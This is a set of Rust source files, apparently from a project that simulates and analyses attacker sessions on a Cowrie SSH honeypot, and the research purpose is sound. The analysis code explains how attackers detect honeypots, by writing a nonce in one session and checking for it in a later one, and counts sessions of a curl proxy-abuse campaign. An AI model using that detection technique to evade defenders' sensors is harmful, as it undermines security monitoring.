    println!("phil successes : {phil_total} (deployment accepts the post-2020 default)");
    println!("richard tries  : {richard_total} (all fail on this Cowrie version)");
    println!(
        "{:.0}% of phil sessions disconnect without a command — reconnaissance, not compromise",
        probes.phil_no_command_frac * 100.0
    );
    for (m, n) in probes.phil_success.iter().take(6) {
        println!("  {m}  phil={n}");
    }

    // --- 2. State-consistency probing: echo_os_check writes a UUID and
    // would verify it next session; per-session COW filesystems fail that
    // test, revealing the honeypot.
    let cl = Classifier::table1();
    let uuid_probes = ds
        .sessions
        .iter()
        .filter(|s| !s.commands.is_empty() && cl.classify(&s.command_text()) == "echo_os_check")
        .count();
    println!("\n== state-consistency probes (echo_os_check) ==");
    println!("sessions: {uuid_probes} — each writes a nonce a later session would check");

    // --- 3. Proxy abuse: the curl_maxred campaign (Appendix C).
    println!("\n== proxy abuse (curl_maxred, Appendix C) ==");
    let curl_sessions: Vec<_> = ds
        .sessions
        .iter()
        .filter(|s| s.command_text().contains("--max-redirs"))
        .collect();
    let clients: std::collections::HashSet<_> = curl_sessions.iter().map(|s| s.client_ip).collect();
    let sensors: std::collections::HashSet<_> =
        curl_sessions.iter().map(|s| s.honeypot_id).collect();
    let curls: usize = curl_sessions.iter().map(|s| s.commands.len()).sum();
    println!(
        "{} sessions from {} client IPs against {} sensors, {} curl requests total",
        curl_sessions.len(),
        clients.len(),
        sensors.len(),
        curls
    );
    println!("(paper: ~200k sessions, 4 IPs, 180 sensors, 20M requests)");
    if let Some(snippet) = report::fig15_snippet(&ds.sessions) {
        println!("sample command (Fig 15):\n  {snippet}");
    }
}
