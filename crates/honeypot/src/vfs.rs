//! Per-session copy-on-write virtual filesystem.
//!
//! Cowrie gives every session a fresh view of a template filesystem;
//! changes never persist across sessions (which is precisely the
//! inconsistency attackers probe for, paper §5). Files carry content so
//! the honeypot can hash them — the hash is the only thing that leaves the
//! sensor.

use hutil::Sha256;
use std::collections::BTreeMap;

/// A file in the VFS.
#[derive(Debug, Clone)]
struct FileNode {
    content: Vec<u8>,
    executable: bool,
}

/// The virtual filesystem for one session.
#[derive(Debug, Clone)]
pub struct Vfs {
    files: BTreeMap<String, FileNode>,
    dirs: std::collections::BTreeSet<String>,
    cwd: String,
}

impl Default for Vfs {
    fn default() -> Self {
        Self::new()
    }
}

impl Vfs {
    /// A fresh session view of the template filesystem.
    pub fn new() -> Self {
        let mut v = Self {
            files: BTreeMap::new(),
            dirs: std::collections::BTreeSet::new(),
            cwd: "/root".to_string(),
        };
        for d in [
            "/",
            "/bin",
            "/dev",
            "/etc",
            "/home",
            "/mnt",
            "/proc",
            "/root",
            "/sbin",
            "/tmp",
            "/usr",
            "/usr/bin",
            "/var",
            "/var/run",
            "/var/tmp",
            "/root/.ssh",
            "/dev/shm",
        ] {
            v.dirs.insert(d.to_string());
        }
        // Template files bots commonly poke at.
        let template: [(&str, &[u8], bool); 8] = [
            ("/bin/busybox", b"BusyBox v1.22.1 (binary)", true),
            ("/bin/sh", b"#!ELF shell", true),
            ("/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n", false),
            (
                "/etc/shadow",
                b"root:$6$salt$hash:19000:0:99999:7:::\n",
                false,
            ),
            ("/etc/hosts", b"127.0.0.1 localhost\n", false),
            ("/etc/hosts.deny", b"", false),
            (
                "/proc/cpuinfo",
                b"processor\t: 0\nmodel name\t: Intel(R) Celeron(R) CPU J1900\n",
                false,
            ),
            ("/proc/self/exe", b"#!ELF sshd", true),
        ];
        for (p, c, x) in template {
            v.files.insert(
                p.to_string(),
                FileNode {
                    content: c.to_vec(),
                    executable: x,
                },
            );
        }
        v
    }

    /// Current working directory.
    pub fn cwd(&self) -> &str {
        &self.cwd
    }

    /// Resolves `path` against the cwd; normalises `.` and `..` and `~`.
    pub fn resolve(&self, path: &str) -> String {
        let expanded = if path == "~" || path.starts_with("~/") {
            format!("/root{}", &path[1..])
        } else {
            path.to_string()
        };
        let joined = if expanded.starts_with('/') {
            expanded
        } else {
            format!("{}/{}", self.cwd.trim_end_matches('/'), expanded)
        };
        let mut parts: Vec<&str> = Vec::new();
        for seg in joined.split('/') {
            match seg {
                "" | "." => {}
                ".." => {
                    parts.pop();
                }
                s => parts.push(s),
            }
        }
        if parts.is_empty() {
            "/".to_string()
        } else {
            format!("/{}", parts.join("/"))
        }
    }

    /// `cd` — returns false when the directory does not exist.
    pub fn chdir(&mut self, path: &str) -> bool {
        let p = self.resolve(path);
        if self.dirs.contains(&p) {
            self.cwd = p;
            true
        } else {
            false
        }
    }

    /// `mkdir` (with implicit `-p` semantics, as bots rely on). Returns
    /// false when the path already exists as a file.
    pub fn mkdir(&mut self, path: &str) -> bool {
        let p = self.resolve(path);
        if self.files.contains_key(&p) {
            return false;
        }
        // Create ancestors.
        let mut acc = String::new();
        for seg in p.split('/').filter(|s| !s.is_empty()) {
            acc.push('/');
            acc.push_str(seg);
            self.dirs.insert(acc.clone());
        }
        true
    }

    /// Whether a file exists at `path`.
    pub fn file_exists(&self, path: &str) -> bool {
        self.files.contains_key(&self.resolve(path))
    }

    /// Whether a directory exists at `path`.
    pub fn dir_exists(&self, path: &str) -> bool {
        self.dirs.contains(&self.resolve(path))
    }

    /// Writes (creates or truncates) a file; returns `(resolved path,
    /// sha256, existed_before)`.
    pub fn write(&mut self, path: &str, content: &[u8]) -> (String, String, bool) {
        let p = self.resolve(path);
        let existed = self.files.contains_key(&p);
        let hash = Sha256::hex_digest(content);
        self.files.insert(
            p.clone(),
            FileNode {
                content: content.to_vec(),
                executable: false,
            },
        );
        (p, hash, existed)
    }

    /// Appends to a file (creating it if missing); returns `(resolved
    /// path, sha256 of the *new* content, existed_before)`.
    pub fn append(&mut self, path: &str, content: &[u8]) -> (String, String, bool) {
        let p = self.resolve(path);
        let existed = self.files.contains_key(&p);
        let node = self.files.entry(p.clone()).or_insert_with(|| FileNode {
            content: Vec::new(),
            executable: false,
        });
        node.content.extend_from_slice(content);
        let hash = Sha256::hex_digest(&node.content);
        (p, hash, existed)
    }

    /// Reads a file's content.
    pub fn read(&self, path: &str) -> Option<&[u8]> {
        self.files
            .get(&self.resolve(path))
            .map(|n| n.content.as_slice())
    }

    /// SHA-256 of the file at `path`, if it exists.
    pub fn hash_of(&self, path: &str) -> Option<String> {
        self.read(path).map(Sha256::hex_digest)
    }

    /// Deletes a file; returns the resolved path if something was removed.
    pub fn remove(&mut self, path: &str) -> Option<String> {
        let p = self.resolve(path);
        self.files.remove(&p).map(|_| p)
    }

    /// Deletes a directory tree (`rm -rf dir`); returns resolved paths of
    /// removed *files*.
    pub fn remove_tree(&mut self, path: &str) -> Vec<String> {
        let p = self.resolve(path);
        let prefix = format!("{}/", p.trim_end_matches('/'));
        let victims: Vec<String> = self
            .files
            .keys()
            .filter(|k| **k == p || k.starts_with(&prefix))
            .cloned()
            .collect();
        for v in &victims {
            self.files.remove(v);
        }
        self.dirs.retain(|d| !(d == &p || d.starts_with(&prefix)));
        victims
    }

    /// Marks a file executable (`chmod +x`); returns false if missing.
    pub fn set_executable(&mut self, path: &str) -> bool {
        let p = self.resolve(path);
        match self.files.get_mut(&p) {
            Some(n) => {
                n.executable = true;
                true
            }
            None => false,
        }
    }

    /// Whether the file at `path` is executable.
    pub fn is_executable(&self, path: &str) -> bool {
        self.files
            .get(&self.resolve(path))
            .is_some_and(|n| n.executable)
    }

    /// Directory listing (names directly under `path`).
    pub fn list(&self, path: &str) -> Vec<String> {
        let p = self.resolve(path);
        let prefix = if p == "/" {
            "/".to_string()
        } else {
            format!("{p}/")
        };
        let mut out: Vec<String> = Vec::new();
        for name in self.files.keys().chain(self.dirs.iter()) {
            if let Some(rest) = name.strip_prefix(&prefix) {
                if !rest.is_empty() && !rest.contains('/') {
                    out.push(rest.to_string());
                }
            }
        }
        out.sort();
        out.dedup();
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn template_files_exist() {
        let v = Vfs::new();
        assert!(v.file_exists("/bin/busybox"));
        assert!(v.file_exists("/etc/passwd"));
        assert!(v.dir_exists("/tmp"));
        assert_eq!(v.cwd(), "/root");
    }

    #[test]
    fn resolve_handles_relative_dot_and_tilde() {
        let v = Vfs::new();
        assert_eq!(v.resolve("x.sh"), "/root/x.sh");
        assert_eq!(v.resolve("/tmp/../etc/passwd"), "/etc/passwd");
        assert_eq!(v.resolve("./a/./b"), "/root/a/b");
        assert_eq!(
            v.resolve("~/.ssh/authorized_keys"),
            "/root/.ssh/authorized_keys"
        );
        assert_eq!(v.resolve("~"), "/root");
        assert_eq!(v.resolve("/../.."), "/");
    }

    #[test]
    fn chdir_validates_target() {
        let mut v = Vfs::new();
        assert!(v.chdir("/tmp"));
        assert_eq!(v.cwd(), "/tmp");
        assert!(!v.chdir("/no/such/dir"));
        assert_eq!(v.cwd(), "/tmp");
        assert!(v.chdir(".."));
        assert_eq!(v.cwd(), "/");
    }

    #[test]
    fn write_and_append_hash_content() {
        let mut v = Vfs::new();
        let (p, h1, existed) = v.write("/tmp/a.sh", b"echo hi\n");
        assert_eq!(p, "/tmp/a.sh");
        assert!(!existed);
        assert_eq!(h1, hutil::Sha256::hex_digest(b"echo hi\n"));
        let (_, h2, existed2) = v.append("/tmp/a.sh", b"echo bye\n");
        assert!(existed2);
        assert_eq!(h2, hutil::Sha256::hex_digest(b"echo hi\necho bye\n"));
        assert_eq!(v.hash_of("/tmp/a.sh").unwrap(), h2);
    }

    #[test]
    fn mkdir_p_and_cd_into() {
        let mut v = Vfs::new();
        assert!(v.mkdir("/var/run/.x/deep"));
        assert!(v.chdir("/var/run/.x/deep"));
        // mkdir over an existing file fails.
        v.write("/tmp/f", b"x");
        assert!(!v.mkdir("/tmp/f"));
    }

    #[test]
    fn remove_and_remove_tree() {
        let mut v = Vfs::new();
        v.write("/tmp/a", b"1");
        v.write("/tmp/sub/b", b"2");
        v.mkdir("/tmp/sub");
        assert_eq!(v.remove("/tmp/a").as_deref(), Some("/tmp/a"));
        assert!(v.remove("/tmp/a").is_none());
        let removed = v.remove_tree("/tmp");
        assert_eq!(removed, vec!["/tmp/sub/b".to_string()]);
        assert!(!v.dir_exists("/tmp"));
    }

    #[test]
    fn executable_bit() {
        let mut v = Vfs::new();
        v.write("/tmp/x", b"#!/bin/sh");
        assert!(!v.is_executable("/tmp/x"));
        assert!(v.set_executable("/tmp/x"));
        assert!(v.is_executable("/tmp/x"));
        assert!(!v.set_executable("/tmp/nope"));
        assert!(v.is_executable("/bin/busybox"));
    }

    #[test]
    fn listing() {
        let mut v = Vfs::new();
        v.write("/tmp/z", b"");
        v.write("/tmp/a", b"");
        v.mkdir("/tmp/d");
        assert_eq!(v.list("/tmp"), vec!["a", "d", "z"]);
        assert!(v.list("/").contains(&"etc".to_string()));
    }

    #[test]
    fn state_never_leaks_between_sessions() {
        let mut v1 = Vfs::new();
        v1.write("/tmp/marker", b"i-was-here");
        let v2 = Vfs::new();
        assert!(
            !v2.file_exists("/tmp/marker"),
            "fresh session must not see old state"
        );
    }
}
