//! SSH wire-format primitives (RFC 4251 §5).
//!
//! Readers return `Result` rather than panicking: every byte here is
//! attacker-controlled in the deployment the honeypot models.

use crate::SshError;
use bytes::{Buf, BufMut, Bytes, BytesMut};

/// Writes a `uint32`.
pub fn put_u32(buf: &mut BytesMut, v: u32) {
    buf.put_u32(v);
}

/// Writes a `byte`.
pub fn put_u8(buf: &mut BytesMut, v: u8) {
    buf.put_u8(v);
}

/// Writes a `boolean`.
pub fn put_bool(buf: &mut BytesMut, v: bool) {
    buf.put_u8(v as u8);
}

/// Writes a length-prefixed `string`.
pub fn put_string(buf: &mut BytesMut, s: &[u8]) {
    buf.put_u32(s.len() as u32);
    buf.put_slice(s);
}

/// Writes a comma-separated `name-list`.
pub fn put_name_list(buf: &mut BytesMut, names: &[&str]) {
    put_string(buf, names.join(",").as_bytes());
}

/// Reads a `byte`.
pub fn get_u8(buf: &mut Bytes) -> Result<u8, SshError> {
    if buf.remaining() < 1 {
        return Err(SshError::Decode("truncated byte".into()));
    }
    Ok(buf.get_u8())
}

/// Reads a `boolean`.
pub fn get_bool(buf: &mut Bytes) -> Result<bool, SshError> {
    Ok(get_u8(buf)? != 0)
}

/// Reads a `uint32`.
pub fn get_u32(buf: &mut Bytes) -> Result<u32, SshError> {
    if buf.remaining() < 4 {
        return Err(SshError::Decode("truncated uint32".into()));
    }
    Ok(buf.get_u32())
}

/// Reads a length-prefixed `string` as raw bytes.
pub fn get_string(buf: &mut Bytes) -> Result<Bytes, SshError> {
    let len = get_u32(buf)? as usize;
    if buf.remaining() < len {
        return Err(SshError::Decode(format!(
            "string length {len} exceeds remaining {}",
            buf.remaining()
        )));
    }
    Ok(buf.split_to(len))
}

/// Reads a `string` and requires UTF-8.
pub fn get_utf8(buf: &mut Bytes) -> Result<String, SshError> {
    let raw = get_string(buf)?;
    String::from_utf8(raw.to_vec()).map_err(|_| SshError::Decode("non-UTF-8 string".into()))
}

/// Reads a `name-list`.
pub fn get_name_list(buf: &mut Bytes) -> Result<Vec<String>, SshError> {
    let s = get_utf8(buf)?;
    if s.is_empty() {
        return Ok(Vec::new());
    }
    Ok(s.split(',').map(str::to_string).collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn string_roundtrip() {
        let mut b = BytesMut::new();
        put_string(&mut b, b"root");
        put_string(&mut b, b"");
        let mut r = b.freeze();
        assert_eq!(&get_string(&mut r).unwrap()[..], b"root");
        assert_eq!(&get_string(&mut r).unwrap()[..], b"");
        assert_eq!(r.remaining(), 0);
    }

    #[test]
    fn name_list_roundtrip() {
        let mut b = BytesMut::new();
        put_name_list(
            &mut b,
            &["curve25519-sha256", "diffie-hellman-group14-sha256"],
        );
        put_name_list(&mut b, &[]);
        let mut r = b.freeze();
        assert_eq!(
            get_name_list(&mut r).unwrap(),
            vec!["curve25519-sha256", "diffie-hellman-group14-sha256"]
        );
        assert_eq!(get_name_list(&mut r).unwrap(), Vec::<String>::new());
    }

    #[test]
    fn truncated_reads_error_cleanly() {
        let mut r = Bytes::from_static(&[0, 0, 0, 9, b'x']);
        assert!(matches!(get_string(&mut r), Err(SshError::Decode(_))));
        let mut r2 = Bytes::from_static(&[0, 0]);
        assert!(matches!(get_u32(&mut r2), Err(SshError::Decode(_))));
        let mut r3 = Bytes::new();
        assert!(matches!(get_u8(&mut r3), Err(SshError::Decode(_))));
    }

    #[test]
    fn non_utf8_string_is_decode_error() {
        let mut b = BytesMut::new();
        put_string(&mut b, &[0xff, 0xfe]);
        let mut r = b.freeze();
        assert!(matches!(get_utf8(&mut r), Err(SshError::Decode(_))));
    }

    #[test]
    fn bool_roundtrip() {
        let mut b = BytesMut::new();
        put_bool(&mut b, true);
        put_bool(&mut b, false);
        let mut r = b.freeze();
        assert!(get_bool(&mut r).unwrap());
        assert!(!get_bool(&mut r).unwrap());
    }
}
