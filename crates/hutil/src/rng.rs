//! Deterministic seed derivation.
//!
//! Every subsystem of the simulation (each bot archetype, the AS registry,
//! the abuse-feed sampler, …) draws from its own RNG stream so that adding
//! or reordering one subsystem never perturbs another. Child seeds are
//! derived by hashing `(parent seed, label)` with SHA-256, which makes the
//! derivation order-free and collision-resistant for any practical number
//! of labels.

use crate::sha256::Sha256;
use rand::rngs::StdRng;
use rand::SeedableRng;

/// Derives a child seed from a parent seed and a stable textual label.
pub fn derive_seed(parent: u64, label: &str) -> u64 {
    let mut h = Sha256::new();
    h.update(&parent.to_le_bytes());
    h.update(b"/");
    h.update(label.as_bytes());
    let d = h.finalize();
    u64::from_le_bytes(d[..8].try_into().expect("digest has 32 bytes"))
}

/// Creates a deterministic RNG for the subsystem named by `label`.
pub fn stream(parent: u64, label: &str) -> StdRng {
    StdRng::seed_from_u64(derive_seed(parent, label))
}

/// A seed plus a namespace, convenient to thread through constructors.
#[derive(Debug, Clone, Copy)]
pub struct SeedTree {
    seed: u64,
}

impl SeedTree {
    /// Root of a seed hierarchy.
    pub fn new(seed: u64) -> Self {
        Self { seed }
    }

    /// The raw seed at this node.
    pub fn seed(&self) -> u64 {
        self.seed
    }

    /// A child namespace.
    pub fn child(&self, label: &str) -> SeedTree {
        SeedTree {
            seed: derive_seed(self.seed, label),
        }
    }

    /// An RNG rooted at this node for the given label.
    pub fn rng(&self, label: &str) -> StdRng {
        stream(self.seed, label)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::Rng;

    #[test]
    fn derivation_is_deterministic() {
        assert_eq!(
            derive_seed(42, "botnet/mirai"),
            derive_seed(42, "botnet/mirai")
        );
    }

    #[test]
    fn labels_separate_streams() {
        assert_ne!(derive_seed(42, "a"), derive_seed(42, "b"));
        assert_ne!(derive_seed(42, "a"), derive_seed(43, "a"));
    }

    #[test]
    fn label_concatenation_is_not_ambiguous() {
        // ("ab","c") vs ("a","bc") must differ through the tree.
        let t = SeedTree::new(7);
        assert_ne!(
            t.child("ab").child("c").seed(),
            t.child("a").child("bc").seed()
        );
    }

    #[test]
    fn rng_streams_reproduce() {
        let mut a = stream(1, "x");
        let mut b = stream(1, "x");
        for _ in 0..16 {
            assert_eq!(a.random::<u64>(), b.random::<u64>());
        }
    }

    #[test]
    fn seed_tree_children_differ_from_root() {
        let t = SeedTree::new(99);
        assert_ne!(t.child("a").seed(), t.seed());
    }
}
