//! Prefiltered vs naive multi-pattern classification throughput.
//!
//! Unlike the criterion targets, this bench is a plain timing loop: the
//! vendored criterion has no machine-readable output, and
//! `scripts/bench_snapshot.sh` wants a JSON snapshot (`BENCH_classify.json`)
//! it can check in. Both paths classify the same corpus — every command
//! text in the shared benchmark dataset — and the naive path is the
//! pre-prefilter implementation (`Classifier::classify_naive`), so the
//! ratio is exactly what the prefilter bought.
//!
//! ```text
//! cargo bench --bench classify                    # print the numbers
//! cargo bench --bench classify -- --json OUT.json # also write the snapshot
//! ```

use honeylab_bench::dataset;
use honeylab_core::classify::Classifier;
use std::hint::black_box;
use std::time::Instant;

/// One command text per command session in the benchmark dataset (the
/// same `join("\n")` the analysis pipeline classifies).
fn corpus() -> Vec<String> {
    dataset()
        .sessions
        .iter()
        .filter(|s| !s.commands.is_empty())
        .map(|s| {
            s.commands
                .iter()
                .map(|c| c.input.as_str())
                .collect::<Vec<_>>()
                .join("\n")
        })
        .collect()
}

/// Best-of-`runs` wall time of `f`, in seconds. `f` returns a checksum so
/// the classified labels cannot be optimized away.
fn best_secs(mut f: impl FnMut() -> u64, runs: usize) -> f64 {
    let mut best = f64::INFINITY;
    for _ in 0..runs {
        let t = Instant::now();
        black_box(f());
        best = best.min(t.elapsed().as_secs_f64());
    }
    best
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let json_path = args
        .iter()
        .position(|a| a == "--json")
        .and_then(|i| args.get(i + 1))
        .cloned();

    let texts = corpus();
    let bytes: usize = texts.iter().map(String::len).sum();
    let cl = Classifier::table1();
    eprintln!(
        "classify bench: {} texts, {} bytes, {} rules ({} prefiltered, {} fallback)",
        texts.len(),
        bytes,
        cl.len(),
        cl.prefiltered_rules(),
        cl.fallback_rules()
    );

    let sweep_naive = || {
        texts
            .iter()
            .map(|t| cl.classify_naive(t).len() as u64)
            .sum()
    };
    let sweep_pref = || texts.iter().map(|t| cl.classify(t).len() as u64).sum();

    // The two sweeps must agree before their times mean anything.
    assert_eq!(sweep_naive(), sweep_pref(), "prefilter changed results");

    const RUNS: usize = 5;
    let naive = best_secs(sweep_naive, RUNS);
    let pref = best_secs(sweep_pref, RUNS);
    let speedup = naive / pref;
    let naive_tps = texts.len() as f64 / naive;
    let pref_tps = texts.len() as f64 / pref;

    println!("naive       {naive:>9.4} s   {naive_tps:>12.0} texts/s");
    println!("prefiltered {pref:>9.4} s   {pref_tps:>12.0} texts/s");
    println!("speedup     {speedup:>9.2}x");

    if let Some(path) = json_path {
        let json = format!(
            "{{\n  \"bench\": \"classify\",\n  \"corpus_texts\": {},\n  \"corpus_bytes\": {},\n  \"rules\": {},\n  \"prefiltered_rules\": {},\n  \"fallback_rules\": {},\n  \"naive_secs\": {:.6},\n  \"prefiltered_secs\": {:.6},\n  \"naive_texts_per_sec\": {:.0},\n  \"prefiltered_texts_per_sec\": {:.0},\n  \"speedup\": {:.2}\n}}\n",
            texts.len(),
            bytes,
            cl.len(),
            cl.prefiltered_rules(),
            cl.fallback_rules(),
            naive,
            pref,
            naive_tps,
            pref_tps,
            speedup
        );
        std::fs::write(&path, json).expect("write json snapshot");
        eprintln!("wrote {path}");
    }
}
