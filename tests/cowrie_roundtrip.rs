//! Dataset → Cowrie JSON log → dataset round trip: the exported log must
//! carry everything the analysis pipeline needs, so that analysing the
//! re-imported log gives the same answers as analysing the original.

use honeylab::core::{logins, report};
use honeylab::honeypot::{from_cowrie_log, to_cowrie_log};
use honeylab::prelude::*;
use std::sync::OnceLock;

fn datasets() -> &'static (Vec<SessionRecord>, Vec<SessionRecord>) {
    static DS: OnceLock<(Vec<SessionRecord>, Vec<SessionRecord>)> = OnceLock::new();
    DS.get_or_init(|| {
        let ds = botnet::generate_dataset(&DriverConfig::test_scale(31));
        let log = to_cowrie_log(&ds.sessions);
        let back = from_cowrie_log(&log).expect("own log parses");
        (ds.sessions.clone(), back)
    })
}

#[test]
fn session_count_and_identity_survive() {
    let (orig, back) = datasets();
    assert_eq!(orig.len(), back.len());
    for (a, b) in orig.iter().zip(back).step_by(53) {
        assert_eq!(a.client_ip, b.client_ip);
        assert_eq!(a.protocol, b.protocol);
        assert_eq!(a.start, b.start);
        assert_eq!(a.logins, b.logins);
        assert_eq!(a.commands, b.commands);
    }
}

#[test]
fn taxonomy_is_identical() {
    let (orig, back) = datasets();
    assert_eq!(TaxonomyStats::compute(orig), TaxonomyStats::compute(back));
}

#[test]
fn classification_is_identical() {
    let (orig, back) = datasets();
    let cl = Classifier::table1();
    let count = |sessions: &[SessionRecord]| {
        let mut m = std::collections::BTreeMap::new();
        for s in report::command_sessions(sessions) {
            *m.entry(cl.classify(&s.command_text())).or_insert(0u64) += 1;
        }
        m
    };
    assert_eq!(count(orig), count(back));
}

#[test]
fn password_analysis_is_identical() {
    let (orig, back) = datasets();
    let a = logins::top_passwords(orig, 5);
    let b = logins::top_passwords(back, 5);
    assert_eq!(a.passwords, b.passwords);
    assert_eq!(a.by_month, b.by_month);
}

#[test]
fn download_capture_survives() {
    use honeylab::core::storage_analysis as sa;
    let (orig, back) = datasets();
    let a = sa::successful_download_events(orig);
    let b = sa::successful_download_events(back);
    assert_eq!(a.len(), b.len());
    let hosts = |ev: &[sa::DownloadEvent]| {
        let mut v: Vec<_> = ev.iter().map(|e| e.storage_ip).collect();
        v.sort_unstable();
        v
    };
    assert_eq!(hosts(&a), hosts(&b));
}

#[test]
fn mdrfckr_case_study_is_identical() {
    use honeylab::core::mdrfckr;
    let (orig, back) = datasets();
    let ta = mdrfckr::timeline(orig);
    let tb = mdrfckr::timeline(back);
    assert_eq!(ta.daily, tb.daily);
    assert_eq!(
        mdrfckr::cred_overlap_frac(orig),
        mdrfckr::cred_overlap_frac(back)
    );
}

#[test]
fn log_is_valid_json_lines() {
    let (orig, _) = datasets();
    let log = to_cowrie_log(&orig[..200.min(orig.len())]);
    for (i, line) in log.lines().enumerate() {
        hutil::Json::parse(line).unwrap_or_else(|e| panic!("line {}: {e}", i + 1));
    }
}
