//! Civil (proleptic Gregorian) date arithmetic with no ambient clock.
//!
//! The honeynet study spans 2021-12-01 .. 2024-08-31; every record is
//! timestamped in UTC and all figures bucket by day, month or quarter. The
//! simulation must be fully deterministic, so nothing here ever consults the
//! wall clock — time always flows from the discrete-event scheduler.
//!
//! Day/civil conversions use the well-known algorithms by Howard Hinnant
//! ("chrono-compatible low-level date algorithms").

/// Month of year, 1-based like every human-facing calendar.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Month {
    /// Year (e.g. 2022).
    pub year: i32,
    /// Month 1..=12.
    pub month: u8,
}

impl Month {
    /// Creates a month, panicking on an out-of-range month number.
    pub fn new(year: i32, month: u8) -> Self {
        assert!((1..=12).contains(&month), "month out of range: {month}");
        Self { year, month }
    }

    /// The month immediately after `self`.
    pub fn next(self) -> Self {
        if self.month == 12 {
            Self {
                year: self.year + 1,
                month: 1,
            }
        } else {
            Self {
                year: self.year,
                month: self.month + 1,
            }
        }
    }

    /// Zero-based index of this month counted from `start`.
    /// Returns `None` when `self < start`.
    pub fn index_from(self, start: Month) -> Option<usize> {
        let a = self.year as i64 * 12 + (self.month as i64 - 1);
        let b = start.year as i64 * 12 + (start.month as i64 - 1);
        (a >= b).then(|| (a - b) as usize)
    }

    /// First day of the month.
    pub fn first_day(self) -> Date {
        Date::new(self.year, self.month, 1)
    }

    /// Number of days in the month.
    pub fn days(self) -> u8 {
        Date::days_in_month(self.year, self.month)
    }

    /// Calendar quarter, 1..=4.
    pub fn quarter(self) -> u8 {
        (self.month - 1) / 3 + 1
    }

    /// `"2022-03"` — the label format used on the paper's x-axes.
    pub fn label(self) -> String {
        format!("{:04}-{:02}", self.year, self.month)
    }

    /// Inclusive iterator over months `start..=end`.
    pub fn range_inclusive(start: Month, end: Month) -> impl Iterator<Item = Month> {
        let mut cur = Some(start);
        std::iter::from_fn(move || {
            let m = cur?;
            if m > end {
                cur = None;
                return None;
            }
            cur = Some(m.next());
            Some(m)
        })
    }
}

impl std::fmt::Display for Month {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.label())
    }
}

/// A civil calendar date (UTC).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Date {
    /// Year.
    pub year: i32,
    /// Month 1..=12.
    pub month: u8,
    /// Day of month 1..=31.
    pub day: u8,
}

impl Date {
    /// Creates a date, panicking when the combination is not a real day.
    pub fn new(year: i32, month: u8, day: u8) -> Self {
        assert!((1..=12).contains(&month), "month out of range: {month}");
        assert!(
            day >= 1 && day <= Self::days_in_month(year, month),
            "day out of range: {year:04}-{month:02}-{day:02}"
        );
        Self { year, month, day }
    }

    /// True for Gregorian leap years.
    pub fn is_leap_year(year: i32) -> bool {
        year % 4 == 0 && (year % 100 != 0 || year % 400 == 0)
    }

    /// Number of days in `month` of `year`.
    pub fn days_in_month(year: i32, month: u8) -> u8 {
        match month {
            1 | 3 | 5 | 7 | 8 | 10 | 12 => 31,
            4 | 6 | 9 | 11 => 30,
            2 if Self::is_leap_year(year) => 29,
            2 => 28,
            _ => panic!("month out of range: {month}"),
        }
    }

    /// Days since 1970-01-01 (may be negative).
    pub fn to_epoch_days(self) -> i64 {
        let y = if self.month <= 2 {
            self.year - 1
        } else {
            self.year
        } as i64;
        let era = if y >= 0 { y } else { y - 399 } / 400;
        let yoe = y - era * 400; // [0, 399]
        let m = self.month as i64;
        let d = self.day as i64;
        let doy = (153 * (if m > 2 { m - 3 } else { m + 9 }) + 2) / 5 + d - 1;
        let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
        era * 146_097 + doe - 719_468
    }

    /// Inverse of [`Date::to_epoch_days`].
    pub fn from_epoch_days(days: i64) -> Self {
        let z = days + 719_468;
        let era = if z >= 0 { z } else { z - 146_096 } / 146_097;
        let doe = z - era * 146_097; // [0, 146096]
        let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
        let y = yoe + era * 400;
        let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
        let mp = (5 * doy + 2) / 153;
        let d = (doy - (153 * mp + 2) / 5 + 1) as u8;
        let m = if mp < 10 { mp + 3 } else { mp - 9 } as u8;
        let year = if m <= 2 { y + 1 } else { y } as i32;
        Self {
            year,
            month: m,
            day: d,
        }
    }

    /// The date `n` days after `self` (negative `n` goes backward).
    pub fn plus_days(self, n: i64) -> Self {
        Self::from_epoch_days(self.to_epoch_days() + n)
    }

    /// Signed day difference `self - other`.
    pub fn days_since(self, other: Date) -> i64 {
        self.to_epoch_days() - other.to_epoch_days()
    }

    /// The month containing this date.
    pub fn month_of(self) -> Month {
        Month {
            year: self.year,
            month: self.month,
        }
    }

    /// Midnight UTC at the start of this date.
    pub fn at_midnight(self) -> DateTime {
        DateTime::from_unix(self.to_epoch_days() * 86_400)
    }

    /// A `DateTime` at `hh:mm:ss` UTC on this date.
    pub fn at(self, hour: u8, minute: u8, second: u8) -> DateTime {
        assert!(hour < 24 && minute < 60 && second < 60);
        DateTime::from_unix(
            self.to_epoch_days() * 86_400 + hour as i64 * 3600 + minute as i64 * 60 + second as i64,
        )
    }

    /// ISO 8601 weekday, Monday = 1 .. Sunday = 7.
    pub fn weekday(self) -> u8 {
        // 1970-01-01 was a Thursday (=4).
        let wd = (self.to_epoch_days() + 3).rem_euclid(7) + 1;
        wd as u8
    }

    /// `"2022-03-16"`.
    pub fn label(self) -> String {
        format!("{:04}-{:02}-{:02}", self.year, self.month, self.day)
    }
}

impl std::fmt::Display for Date {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.label())
    }
}

/// A UTC instant with second resolution, stored as Unix seconds.
///
/// All honeynet records carry `DateTime` start/end stamps; figure generators
/// truncate to [`Date`] or [`Month`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default)]
pub struct DateTime(i64);

impl DateTime {
    /// Wraps raw Unix seconds.
    pub fn from_unix(secs: i64) -> Self {
        Self(secs)
    }

    /// Unix seconds.
    pub fn unix(self) -> i64 {
        self.0
    }

    /// Calendar date of this instant (UTC).
    pub fn date(self) -> Date {
        Date::from_epoch_days(self.0.div_euclid(86_400))
    }

    /// Seconds past midnight UTC.
    pub fn seconds_of_day(self) -> u32 {
        self.0.rem_euclid(86_400) as u32
    }

    /// Hour of day, 0..24.
